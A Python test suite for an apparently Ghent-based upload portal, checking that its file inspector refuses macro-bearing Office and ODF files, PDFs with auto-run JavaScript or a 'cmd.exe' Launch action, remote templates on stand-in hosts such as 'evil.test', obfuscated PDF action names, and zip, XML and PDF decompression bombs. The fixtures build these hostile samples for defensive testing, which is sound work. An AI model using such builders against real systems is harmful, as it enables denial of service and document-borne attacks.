"""What is inside a file decides, whatever its names say: what acts by itself, blows up or is broken off is refused."""

import io
import os
import resource
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from pio_portal.change import Refused
from pio_portal.documents import inspection, look
from pio_portal.documents.kinds import content_type_of
from tests.files import PNG, pdf

TYPES = "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def docx(parts: dict[str, bytes | str]) -> bytes:
    return zipped({TYPES: "<Types/>", "word/document.xml": "<w:document>vbaProject, macroEnabled</w:document>"} | parts)


def odt(parts: dict[str, bytes | str], content: str = "<office:scripts/>") -> bytes:
    return zipped({"content.xml": content} | parts)


def relation(kind: str, target: str) -> str:
    return f'<Relationships><Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def acting(**changes) -> bytes:
    """A PDF with something in its catalogue or on its page."""
    file = pikepdf.new()
    file.add_blank_page()
    for name, value in changes.items():
        file.Root[f"/{name}"] = value
    out = io.BytesIO()
    file.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def action(kind: str, **fields) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({"/S": pikepdf.Name(f"/{kind}")} | {f"/{name}": value for name, value in fields.items()})


def on_the_page() -> bytes:
    file = pikepdf.new()
    page = file.add_blank_page()
    link = {"/Type": pikepdf.Name.Annot, "/Subtype": pikepdf.Name.Link, "/Rect": [0, 0, 9, 9]}
    script = action("URI", Next=pikepdf.Array([action("JavaScript", JS="app.alert(1)")]))
    page.obj["/Annots"] = pikepdf.Array([pikepdf.Dictionary(link | {"/A": script})])
    out = io.BytesIO()
    file.save(out)
    return out.getvalue()


def kind_elsewhere() -> bytes:
    """The name of the action is an object of its own, written with a number for a letter."""
    body = pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >>")
    assert b"OpenAction" in body
    return body


def picture(kind: str, size: int = 400) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((size, size), 80).convert("RGB").save(out, kind)
    return out.getvalue()


def many_entries(number: int) -> bytes:
    """An archive with so many entries, written in a second: a table of contents that points at one place."""
    first = zipped({"word/x": "x"})
    end = first.rindex(b"PK\x05\x06")
    length, start = struct.unpack("<LL", first[end + 12 : end + 20])
    entry = first[start : start + length]
    table = entry * number
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, number & 0xFFFF, number & 0xFFFF, len(table), start, 0)
    return first[:start] + table + tail


def heavy_pdf() -> bytes:
    """A stream of objects that unpacks to a gigabyte and a half."""
    packer, packed = zlib.compressobj(9), b""
    for _turn in range(1500):
        packed += packer.compress(b" " * 1024 * 1024)
    packed += packer.flush()
    return (
        b"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 10 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\ntrailer << /Root 2 0 R >>\nstartxref\n0\n%%EOF"
    )


def said_of(name: str, content: bytes) -> str:
    """Why it is refused; empty when it is not."""
    try:
        content_type_of(SimpleUploadedFile(name, content), name, len(content))
    except Refused as refused:
        return str(refused)
    return ""


FINE = {
    "plan.pdf": pdf(),
    "koppeling.pdf": acting(OpenAction=action("URI", URI="https://www.gent.be")),
    "foto.png": picture("PNG"),
    "foto.jpg": picture("JPEG"),
    "FOTO.JPEG": picture("JPEG"),
    "punt.png": PNG,
    "over-macros.docx": docx({}),
    "met-beeld.docx": docx({RELS: relation("image", "https://www.gent.be/logo.png")}),
    "koppelingen.docx": docx({RELS: relation("hyperlink", "https://www.gent.be/")}),
    "eigen-sjabloon.docx": docx(
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\x\\a.dotx")}
    ),
    "ingevoegd.docx": docx({"word/embeddings/oleObject1.bin": OLE + b"Workbook" * 50}),
    "tekst.odt": odt({}),
    "presentatie.odp": odt({}, '<presentation:event-listener script:event-name="dom:click"/>'),
}


@pytest.mark.parametrize("name", FINE)
def test_an_ordinary_file_passes(name):
    assert said_of(name, FINE[name]) == ""


MACROS = {
    "project.docx": docx(
        {"word/vbaProject.bin": "x", TYPES: '<Default ContentType="application/vnd.ms-office.vbaProject"/>'}
    ),
    "soort.docx": docx({TYPES: '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'}),
    "hernoemd.docx": docx({"word/media/image7.bin": OLE + "_VBA_PROJECT".encode("utf-16-le")}),
    "ver-erin.docx": docx({"word/x.dat": OLE + b"-" * 65_528 + b"--" + "_VBA_PROJECT".encode("utf-16-le")}),
    "op-de-naad.docx": docx({"word/x.dat": OLE + b"-" * 65_520 + "_VBA_PROJECT".encode("utf-16-le")}),
    "verwezen.docx": docx({RELS: f'<Relationship Type="{RELATION}/vbaProject" Target="a.bin"/>'}),
    "in-cijfers.docx": docx({TYPES: '<Override ContentType="m&#97;cro&#x45;nabled"/>'}),
    "in-utf16.docx": docx({TYPES: '<Override ContentType="macroEnabled"/>'.encode("utf-16")}),
    "blad.xlsx": zipped(
        {"xl/workbook.xml": "x", TYPES: '<Override ContentType="application/vnd.ms-excel.macrosheet+xml"/>'}
    ),
    "blad-verwezen.xlsx": zipped(
        {
            "xl/workbook.xml": "x",
            "xl/_rels/workbook.xml.rels": '<Relationship Type="http://x/xlMacrosheet" Target="s.xml"/>',
        }
    ),
    "basic.odt": odt({"Basic/Standard/Module1.xml": "x"}),
    "python.odt": odt({"Scripts/python/x.py": "x"}),
    "gebeurtenis.odt": odt({}, '<script:event-listener xlink:href="vnd.sun.star.script:x?language=Python"/>'),
    "toets.odt": odt({"Configurations2/accelerator/current.xml": '<a href="vnd.sun.star.script:x"/>'}),
    "script.odt": odt({}, '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'),
}


@pytest.mark.parametrize("name", MACROS)
def test_macros_are_found_by_what_they_are(name):
    assert "macro's" in said_of(name, MACROS[name])


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
@pytest.mark.parametrize("target", ["https://evil.test/a.dotm", "\\\\evil.test\\a.dotm", "file://evil.test/a.dotm"])
def test_a_template_from_elsewhere_is_refused(kind, target):
    file = docx({"word/_rels/settings.xml.rels": relation(kind, target)})
    assert "van elders" in said_of("brief.docx", file)


ACTING = {
    "bij-openen.pdf": acting(OpenAction=action("JavaScript", JS="app.alert(1)")),
    "start-programma.pdf": acting(OpenAction=action("Launch", F="cmd.exe")),
    "op-de-pagina.pdf": on_the_page(),
    "in-de-namen.pdf": acting(
        Names=pikepdf.Dictionary({"/JavaScript": pikepdf.Dictionary({"/Names": ["x", action("JavaScript", JS="1")]})})
    ),
    "in-andere-letters.pdf": kind_elsewhere(),
    "formulier.pdf": acting(AcroForm=pikepdf.Dictionary({"/XFA": "<xdp/>", "/Fields": []})),
    "diep.pdf": acting(AA=pikepdf.Dictionary({"/WC": pikepdf.Dictionary({"/Next": action("JavaScript", JS="1")})})),
}


@pytest.mark.parametrize("name", ACTING)
def test_a_pdf_that_does_something_by_itself_is_refused(name):
    assert "bevat een script of start een programma" in said_of(name, ACTING[name])


@pytest.fixture
def idle(monkeypatch):
    """The processes that wait for a file: none at first, and none is left."""
    waiting: list = []
    with monkeypatch.context() as patch:
        patch.setattr(inspection, "_idle", waiting)
        yield waiting
        inspection._stop_all()


def test_a_plain_pdf_needs_no_process_of_its_own(idle, monkeypatch):
    monkeypatch.setattr(inspection, "PROGRAM", "nowhere.py")
    assert said_of("plan.pdf", pdf()) == ""
    assert "te ingewikkeld" in said_of("gepakt.pdf", acting())
    assert idle == []


def test_one_process_looks_at_one_file_after_another_and_is_made_anew_when_it_ended(idle):
    assert said_of("gepakt.pdf", acting()) == ""
    (first,) = idle
    assert "niet volledig" in said_of("half.png", picture("PNG")[:-2000])
    assert said_of("foto.jpg", picture("JPEG")) == ""
    assert idle == [first]

    first.kill()
    first.wait()
    assert said_of("gepakt.pdf", acting()) == ""
    (second,) = idle
    assert second is not first


def test_a_look_that_ends_in_the_middle_of_a_file_takes_nothing_with_it(monkeypatch):
    monkeypatch.setattr(look, "word_within_bounds", lambda _kind, _content: os._exit(9))
    assert look.word_of_fork("pdf", acting()) == look.HEAVY
    monkeypatch.setattr(look, "word_within_bounds", lambda _kind, _content: time.sleep(60))
    monkeypatch.setattr(look, "PATIENCE", 0.2)
    assert look.word_of_fork("pdf", acting()) == look.HEAVY


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("zonder-extensie", pdf(), "zegt niet welk soort het is"),
        ("pdf", pdf(), "zegt niet welk soort het is"),
        (".pdf", pdf(), "zegt niet welk soort het is"),
        ("half.png", picture("PNG")[:-2000], "niet volledig"),
        ("half.jpg", picture("JPEG")[:-2000], "niet volledig"),
        ("geknipt.png", picture("PNG")[:60], "niet volledig"),
        ("half.pdf", b"%PDF-1.7 onzin", "geen PDF"),
        ("geen-pagina.pdf", b"%PDF-1.7\nxref\nstartxref\n9\n%%EOF", "geen PDF"),
        ("geheim.pdf", pdf("x"), "wachtwoord"),
        ("geheim.odt", odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"}), "wachtwoord"),
        ("half.docx", docx({})[:-30], "geen DOCX"),
        ("stuk.docx", docx({}).replace(b"PK\x01\x02", b"PK\x01\x03"), "geen DOCX"),
    ],
)
def test_a_file_that_cannot_be_right_is_refused_with_what_to_do(name, content, sentence):
    assert sentence in said_of(name, content)


HEAVY = {
    "veel.docx": lambda: many_entries(450_000),
    "net-te-veel.docx": lambda: many_entries(12_000),
    "bom.docx": lambda: docx({f"word/_rels/{n}.rels": b" " * 60_000_000 for n in range(3)}),
    "bom.odt": lambda: odt({"styles.xml": b" " * 150_000_000}),
    "bom.pdf": heavy_pdf,
}


@pytest.mark.parametrize("name", HEAVY)
def test_what_blows_up_is_refused_in_bounded_memory(name):
    content = HEAVY[name]()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    began = time.process_time()

    said = said_of(name, content)

    assert "te ingewikkeld" in said or "geen PDF" in said
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
    assert grown < 100, f"{grown} MB, in {time.process_time() - began:.1f} s of the processor"


def test_a_table_of_contents_in_the_larger_form_is_not_read():
    content = docx({})
    end = content.rindex(b"PK\x05\x06")
    larger = content[:end] + struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1) + content[end:]
    assert "te ingewikkeld" in said_of("groot.docx", larger)
